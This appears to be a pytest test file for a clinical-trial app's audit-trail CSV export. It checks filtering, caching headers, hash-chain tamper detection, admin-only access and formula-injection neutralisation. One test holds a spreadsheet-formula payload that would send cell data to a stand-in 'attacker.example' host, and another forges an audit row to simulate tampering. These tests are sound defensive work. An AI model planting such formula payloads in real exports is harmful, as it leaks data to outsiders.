"""The audit trail as CSV for a trial admin: filtered by date range and object, with the chain's verification
result, never cached, and the export itself recorded in the trail."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection

from ctims.models import AuditEvent
from tests.ctims.test_audit import trigger_off  # noqa: F401  (the tamper fixture)
from trials import services

URL = "/trials/ALPHA/audit/export.csv"


def read(response) -> tuple[dict[str, str], list[dict[str, str]]]:
    """The export's leading '#' lines as a dict, and its events as rows."""
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    notes = {}
    lines = text.splitlines()
    while lines and lines[0].startswith("#"):
        key, _, value = lines.pop(0)[1:].partition(":")
        notes[key.strip()] = value.strip()
    return notes, list(csv.DictReader(io.StringIO("\n".join(lines))))


def test_a_trial_admin_downloads_the_trials_events_as_csv_with_an_intact_chain(world, client):
    client.force_login(world.alice)
    response = client.get(URL)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"] and "ALPHA" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    notes, rows = read(response)
    assert notes["Chain verification"].startswith("intact")
    expected = AuditEvent.objects.filter(trial_id=world.trial.pk).exclude(action="audit.export").count()
    assert len(rows) == expected and {r["action"] for r in rows} >= {"trial.create", "site.create"}


def test_the_export_is_filtered_by_date_range_and_object(world, client):
    services.trial_update(actor=world.alice, trial=world.trial, title="Renamed")
    client.force_login(world.alice)
    seoul = str(world.seo.pk)
    notes, rows = read(client.get(URL, {"object_type": "trials.site", "object_id": seoul}))
    assert rows and all((r["object_type"], r["object_id"]) == ("trials.site", seoul) for r in rows)
    assert "object_id=" + seoul in notes["Filters"]
    _, none = read(client.get(URL, {"since": "2000-01-01", "until": "2000-01-02"}))
    assert none == []


@pytest.mark.parametrize("since", ["0001-01-01", "2026-13-40", "yesterday"])
def test_a_date_it_cannot_read_or_hold_is_refused_not_ignored(world, client, since):
    client.force_login(world.alice)
    response = client.get(URL, {"since": since})
    assert response.status_code == 400 and response["Content-Type"].startswith("text/plain")
    assert "Since" in response.content.decode()
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_the_export_is_itself_recorded(world, client):
    client.force_login(world.alice)
    client.get(URL, {"action": "site.create"})
    event = AuditEvent.objects.order_by("-seq").first()
    assert event.action == "audit.export" and event.trial_id == world.trial.pk and event.actor == world.alice
    assert event.summary["filters"] == {"action": "site.create"} and event.summary["chain_intact"] is True
    assert event.summary["events"] == 2


def test_a_broken_chain_is_reported_in_the_export(world, client, trigger_off):  # noqa: F811
    target = AuditEvent.objects.order_by("seq")[2]
    with connection.cursor() as cursor:
        cursor.execute("UPDATE ctims_auditevent SET summary = %s WHERE seq = %s", ['{"code": "FORGED"}', target.seq])
    client.force_login(world.alice)
    notes, _ = read(client.get(URL))
    assert notes["Chain verification"].startswith(f"BROKEN at event #{target.seq}")


def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(world, client):
    services.trial_update(actor=world.alice, trial=world.trial, title="=HYPERLINK(1)")
    client.force_login(world.alice)
    _, rows = read(client.get(URL, {"action": "trial.update"}))
    assert rows and not any(v.startswith("=") for r in rows for v in r.values())


def test_a_filter_in_the_query_string_cannot_start_a_cell_of_its_own(world, client):
    hostile = 'x,=HYPERLINK("http://attacker.example/?d="&A9,"open")'
    client.force_login(world.alice)
    text = b"".join(client.get(URL, {"actor": hostile}).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    notes = [row for row in rows if row and row[0].startswith("#")]
    assert len(notes) == 4 and all(len(row) == 1 for row in notes)
    assert any(hostile in row[0] for row in notes)


@pytest.mark.parametrize("who", ["cora", "quinn", "sam", "rhea"])
def test_no_one_but_a_trial_admin_exports(world, client, who):
    client.force_login(world.people[who])
    assert client.get(URL).status_code in (403, 404)
